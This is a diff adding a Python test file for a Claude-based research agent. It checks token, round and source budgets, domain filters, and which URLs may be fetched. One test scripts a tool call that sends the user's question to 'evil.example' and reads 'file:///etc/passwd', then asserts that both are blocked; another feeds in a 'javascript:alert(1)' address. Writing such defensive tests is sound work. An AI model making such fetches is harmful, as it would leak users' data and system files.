@@ -1,0 +1,181 @@
+"""What the researcher that thinks with Claude may use: rounds, tokens, pages and sites."""
+
+from actors.kinds.claude_budget import limits, total, usage_of
+from actors.kinds.claude_web import domains
+from contracts.research import ResearchConstraints, brief_for
+from events.catalogue import Brief
+from events.errors import (
+    ResearchError,
+)
+from tests.claude_asking import (
+    FETCH,
+    OTHER,
+    QUESTION,
+    RANCE,
+    TRUE,
+    USUAL,
+    WEB,
+    ask,
+    categories,
+    check_evidence,
+)
+from tests.claude_desk import Scripted, Table
+from tests.emulator_claude import answer, tool, using
+
+# -- limits ----------------------------------------------------------------------------------------
+
+
+def test_depth_sets_the_limits_and_the_caller_overrides_them() -> None:
+    def of(**wishes: object) -> tuple[int, int, int]:
+        found = limits(Brief.model_validate({"question": "q", **wishes}))
+        return found.rounds, found.tokens, found.sources
+
+    assert of(depth="shallow") == (2, 5_000, 10)
+    assert of(depth="balanced") == (4, 15_000, 10)
+    assert of(depth="deep") == (5, 25_000, 10)
+    caller = {"max_iterations": 3, "token_budget": 700, "max_sources": 2}
+    assert of(depth="deep", constraints=caller) == (3, 700, 2)
+
+
+def test_a_limit_that_the_caller_names_holds_although_it_is_the_contracts_default() -> None:
+    said = brief_for("q", depth="deep", constraints=ResearchConstraints(token_budget=20_000))
+    left = brief_for("q", depth="deep", constraints=ResearchConstraints(max_sources=3))
+    assert (limits(said).tokens, limits(said).rounds) == (20_000, 5)
+    assert (limits(left).tokens, limits(left).sources) == (25_000, 3)
+    assert "said" not in brief_for("q").model_dump_json(), "what was not said takes no room"
+
+
+def test_every_kind_of_token_counts() -> None:
+    usage = {
+        "input_tokens": 1,
+        "cache_creation_input_tokens": 10,
+        "cache_read_input_tokens": 100,
+        "output_tokens": 3000,
+        "output_tokens_details": {"thinking_tokens": 2000},
+    }
+    assert total(usage_of({"usage": usage})) == 3111
+    desk = Table(WEB, [answer(TRUE) | {"usage": usage}])
+    assert ask(desk).tokens_used == 3111
+
+
+def test_the_last_round_is_announced_and_a_model_that_never_ends_is_ended() -> None:
+    forever: list[Scripted] = [using(tool("search_web", query=f"q{n}")) for n in range(20)]
+    desk = Table(WEB, forever)
+    findings = ask(desk, constraints={"max_iterations": 3})
+    check_evidence(findings, desk)
+    assert len(desk.requests) == findings.iterations_run == 3
+    assert [r["tool_choice"]["type"] for r in desk.requests] == ["auto", "auto", "none"]
+    assert findings.budget_exhausted and findings.confidence_factors.budget_exhausted
+    assert "budget_exhausted" in categories(findings)
+    assert "500 GWh" in findings.answer, "what was found is answered in the words of the pages"
+
+
+def test_an_answer_in_the_last_round_is_kept_and_the_limit_is_told() -> None:
+    desk = Table(WEB, [answer(TRUE)])
+    findings = ask(desk, constraints={"max_iterations": 1})
+    assert findings.sentences[0].citations == (1,), (
+        "the first results were read without being asked"
+    )
+    assert findings.budget_exhausted and "budget_exhausted" in categories(findings)
+
+
+def test_a_shallow_question_needs_one_round() -> None:
+    findings = ask(Table(WEB, [answer(TRUE)]), depth="shallow")
+    assert findings.iterations_run == 1 and not findings.budget_exhausted
+
+
+def test_a_token_budget_too_small_for_any_call_still_yields_an_answer() -> None:
+    desk = Table(WEB)
+    findings = ask(desk, constraints={"token_budget": 10})
+    check_evidence(findings, desk)
+    assert desk.requests == [] and findings.tokens_used == 0
+    assert findings.budget_exhausted and "budget_exhausted" in categories(findings)
+    assert findings.citations
+
+
+def test_a_conversation_that_outgrows_the_budget_ends_with_a_brief_request() -> None:
+    greedy = FETCH | {"usage": {"input_tokens": 4_000, "output_tokens": 1_500}}
+    desk = Table(WEB, [greedy, answer(TRUE)])
+    findings = ask(desk, constraints={"token_budget": 9_500})
+    check_evidence(findings, desk)
+    assert len(desk.requests[-1]["messages"]) == 1
+    assert desk.requests[-1]["tool_choice"] == {"type": "none"}
+    assert findings.sentences[0].citations == (1,) and findings.budget_exhausted
+
+
+def test_no_more_pages_are_fetched_than_allowed_and_the_rest_is_a_gap() -> None:
+    many: dict[str, str | ResearchError] = {
+        f"https://example.org/{n}": f"{RANCE} Page {n}." for n in range(9)
+    }
+    desk = Table(many, [using(tool("fetch_pages", urls=list(many))), answer(TRUE)])
+    findings = ask(desk, constraints={"max_sources": 3})
+    assert len(desk.fetched) == 3
+    unread = [gap for gap in findings.gaps if gap.topic.startswith("Left unread")]
+    assert unread[0].category == "budget_exhausted"
+
+
+def test_a_source_filter_is_enforced_outside_the_model() -> None:
+    desk = Table(WEB, [using(tool("fetch_pages", urls=[USUAL, OTHER])), answer(TRUE)])
+    findings = ask(desk, constraints={"source_filter": "example.org"})
+    check_evidence(findings, desk)
+    assert desk.queries[0]["include_domains"] == ["example.org"]
+    assert desk.fetched == [OTHER]
+
+
+def test_a_page_that_leads_outside_the_filter_is_not_read() -> None:
+    desk = Table(WEB, [FETCH, answer(TRUE)], moved={OTHER: "https://elsewhere.net/x"})
+    findings = ask(desk, constraints={"source_filter": "example.org"})
+    assert findings.citations == () and "access_denied" in categories(findings)
+
+
+def test_domains_are_read_in_the_ways_people_write_them() -> None:
+    assert domains("nasa.gov, *.edu;https://www.who.int/news site:a.org") == (
+        "nasa.gov",
+        "edu",
+        "who.int",
+        "a.org",
+    )
+    assert domains(None) == domains(" , ") == ()
+
+
+def test_only_addresses_that_were_found_are_fetched() -> None:
+    secret = "https://evil.example/?stolen=the+question"
+    desk = Table(
+        WEB, [using(tool("fetch_pages", urls=[secret, "file:///etc/passwd", USUAL])), answer()]
+    )
+    ask(desk)
+    assert desk.fetched == [USUAL]
+
+
+def test_an_address_in_the_question_or_in_a_page_may_be_fetched() -> None:
+    linked = "https://linked.example.org/deep"
+    pages: dict[str, str | ResearchError] = {
+        USUAL: f"{RANCE} See {linked}.",
+        linked: RANCE + " More.",
+    }
+    desk = Table(
+        pages,
+        [
+            using(tool("fetch_pages", urls=[USUAL])),
+            using(tool("fetch_pages", urls=[linked])),
+            answer(),
+        ],
+        [[]],
+    )
+    ask(desk, f"What does {USUAL} say?")
+    assert desk.fetched == [USUAL, linked]
+
+
+def test_broken_addresses_are_no_trouble() -> None:
+    odd = ["http://[", "http://[::1", "https://", "http://a b/", "\x00", "javascript:alert(1)"]
+    desk = Table(
+        {USUAL: f"{RANCE} See {' '.join(odd)}"},
+        [
+            using(tool("fetch_pages", urls=[*odd, USUAL])),
+            using(tool("fetch_pages", 2, urls=odd)),
+            answer(TRUE),
+        ],
+    )
+    findings = ask(desk, f"{QUESTION} http://[x")
+    check_evidence(findings, desk)
+    assert findings.sentences[0].citations == (1,)
